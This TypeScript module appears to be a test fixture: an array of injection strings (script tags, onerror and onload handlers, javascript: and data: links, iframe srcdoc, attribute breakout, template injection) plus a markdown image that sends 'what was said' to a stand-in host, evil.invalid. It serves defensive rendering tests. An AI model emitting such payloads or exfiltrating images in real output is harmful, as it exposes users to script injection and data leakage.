/** Texts that would run, load or break something if they were taken for more than text. */
export const hostileTexts: readonly string[] = [
  "<img src=https://evil.invalid/a.png onerror=\"globalThis.ran='img'\">",
  "<script>globalThis.ran='script'</script>",
  "![look](https://evil.invalid/pixel.png?what=was-said)",
  "[press](javascript:globalThis.ran='link')",
  "[press](data:text/html,<script>globalThis.ran='data'</script>)",
  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe><style>*{display:none}</style>',
  "[ok](https://example.invalid/page) and `<b>code</b>` and &lt;i&gt;",
  '# " onmouseover="globalThis.ran=1',
  "| a | b |\n|---|---|\n| <svg/onload=globalThis.ran=1> | {{globalThis.ran=1}} |",
];

/** All of them in one line, for where a text has one. */
export const hostileLine: string = hostileTexts.join(" ").replaceAll("\n", " ");
